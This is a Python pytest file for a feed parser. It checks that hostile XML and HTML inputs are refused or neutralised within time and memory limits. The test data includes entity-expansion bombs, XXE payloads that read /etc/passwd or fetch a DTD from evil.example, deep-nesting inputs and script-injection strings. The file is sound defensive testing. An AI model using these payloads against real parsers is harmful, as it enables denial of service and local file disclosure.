"""Feeds made to hurt: each is refused, or read, within a second and some megabytes."""

from __future__ import annotations

import time
import tracemalloc
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sockethub.errors import PlatformError
from sockethub.platforms.feeds import markup
from sockethub.platforms.feeds.model import Feed
from sockethub.platforms.feeds.reading import read
from sockethub.web import Answer

MEBIBYTE = 1024 * 1024


def fetched(body: bytes | str) -> Feed:
    data = body.encode() if isinstance(body, str) else body
    return read(Answer("http://site.example/feed", 200, {"content-type": "text/xml"}, data))


def condition(body: bytes | str) -> str:
    with pytest.raises(PlatformError) as caught:
        fetched(body)
    return caught.value.condition


@pytest.fixture
def quickly() -> Iterator[None]:
    """Far more than is needed, far less than an attack that works would take."""
    started = time.perf_counter()
    yield
    assert time.perf_counter() - started < 10


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + ']><rss version="2.0"><channel><title>&l9;</title></channel></rss>'
)
QUADRATIC = (
    f'<!DOCTYPE rss [<!ENTITY a "{"a" * 3_500_000}">]><rss version="2.0"><channel><title>'
    + "&a;" * 1_166_000
    + "</title></channel></rss>"
)


@pytest.mark.parametrize(
    "body",
    [
        LAUGHS,
        QUADRATIC,
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss version="2.0"/>',
        '<!DOCTYPE rss [<!ATTLIST rss a CDATA "x">]><rss version="2.0"><channel/></rss>',
        '<!DOCTYPE rss SYSTEM "x" [ ]><rss version="2.0"><channel/></rss>',
        "<?xml version='1.0'?>" + " " * 5000 + '<!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0"><channel/></rss>',
        '<!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0"><channel><title>not & well-formed</title></channel></rss>',
        ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0"/>').encode(
            "utf-16"
        ),
    ],
    ids=lambda body: ascii(body[:60]),
)
@pytest.mark.usefixtures("quickly")
def test_declarations_are_refused(body: bytes | str) -> None:
    tracemalloc.start()
    try:
        assert condition(body) == "hostile"
        assert tracemalloc.get_traced_memory()[1] < 64 * MEBIBYTE
    finally:
        tracemalloc.stop()


@pytest.mark.usefixtures("quickly")
def test_an_entity_in_a_text_about_xml_is_no_declaration() -> None:
    body = '<rss version="2.0"><channel><title><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]></title></channel></rss>'
    assert "ENTITY" in fetched(body).title or fetched(body).title == ""


@pytest.mark.parametrize(
    "body",
    [
        '<rss version="2.0"><channel>' + "<a>" * 20_000 + "</a>" * 20_000 + "</channel></rss>",
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="xhtml">' + "<div>" * 20_000,
        '<rss version="2.0"><channel>' + "<a/>" * 300_000 + "</channel></rss>",
        '<rss version="2.0"><channel ' + " ".join(f'a{n}="x"' for n in range(1000)) + "/></rss>",
    ],
    ids=["deep", "deep and cut off", "wide", "attributes"],
)
@pytest.mark.usefixtures("quickly")
def test_trees_are_bounded(body: str) -> None:
    assert condition(body) == "hostile"


@pytest.mark.parametrize(
    "piece",
    ["<", "&", "<!--", "<![CDATA[", "<?", "<!DOCTYPE ", "<a b='", "<p", "&#", "]]>", "<item>", "<b><i>", "\x00", "</"],
    ids=ascii,
)
@pytest.mark.usefixtures("quickly")
def test_soup(piece: str) -> None:
    """What is not well-formed goes to feedparser's second parser, which must not take for ever either."""
    body = '<rss version="2.0"><channel><title>t</title><item><description>' + piece * (MEBIBYTE // 4 // len(piece))
    try:
        feed = fetched(body)
    except PlatformError as error:
        assert error.condition in ("hostile", "not-a-feed")  # noqa: PT017 - either is right
    else:
        assert len(feed.title) < 100


@pytest.mark.parametrize(
    "reference", ["&#xD800;", "&#xDFFF;", "&#0;", "&#x110000;", "&#99999999999;", f"&#{'9' * 5000};", "&#xd800"]
)
def test_references_to_no_character(reference: str) -> None:
    feed = fetched(f'<rss version="2.0"><channel><title>a {reference} b &amp; &#xe9; &</title></channel></rss>')
    assert feed.title == "a \ufffd b & é &"


def test_guessing_has_an_end() -> None:
    body = '<rss version="2.0"><channel><title>t</title><item><description>' + "<p" * MEBIBYTE
    with pytest.raises(PlatformError, match=r"not well-formed XML \(line 1\), and too large"):
        fetched(body)


@pytest.mark.parametrize(
    "body",
    [
        "", " ", "hello", "{", "{}", "[]", '{"version": "1"}', "<", "<>", "<a/>", "<xml", "\x00\x01",
        "<!doctype html><p>x",
        "<html><head><title>x</title></head></html>", "{" * 100_000, '{"version": ' * 50_000, b"\xff" * 1000,
        '{"version": "https://jsonfeed.org/version/1", "a": ' + "[" * 100_000,
    ],
    ids=lambda body: ascii(body[:20]),
)  # fmt: skip
@pytest.mark.usefixtures("quickly")
def test_what_is_no_feed(body: bytes | str) -> None:
    assert condition(body) == "not-a-feed"


def test_a_feed_is_never_taken_for_a_name() -> None:
    """feedparser opens what looks like a URL or a file."""
    for text in ("http://127.0.0.1:1/", "/etc/passwd", "-", "file:///etc/passwd"):
        assert condition(text) == "not-a-feed"


@pytest.mark.parametrize(
    "piece", ["<div>", "<b><i><a><font>", "<table><tr><td>", "<ul><li>", "<svg><g>", "<div><table></div>"]
)
@pytest.mark.usefixtures("quickly")
def test_deep_html_is_made_plain(piece: str) -> None:
    deep = piece * 100_000 + "text"
    assert len(markup.sanitised(deep, "http://a.example/")) < markup.CHARACTERS * 2
    assert len(markup.plain(deep)) < markup.CHARACTERS


@given(st.text(alphabet="<>/ab'\"= &;!-psvgtable", max_size=200))
def test_sanitised_html_holds_nothing_that_runs(text: str) -> None:
    clean = markup.sanitised(f"{text}<script>alert(1)</script><a href='javascript:x' onclick=y>z", "http://a.example/")
    assert "<script" not in clean.lower()
    assert "javascript:" not in clean.lower().replace("&", "")[: len(clean)] or "<a" not in clean
    assert markup.sanitised(clean, "http://a.example/") == clean


@given(st.binary(max_size=400) | st.text(max_size=200).map(lambda text: f"<rss><channel>{text}".encode()))
def test_anything_is_read_or_refused(data: bytes) -> None:
    try:
        assert isinstance(fetched(data), Feed)
    except PlatformError as error:
        assert error.condition in ("hostile", "not-a-feed")  # noqa: PT017 - either is right
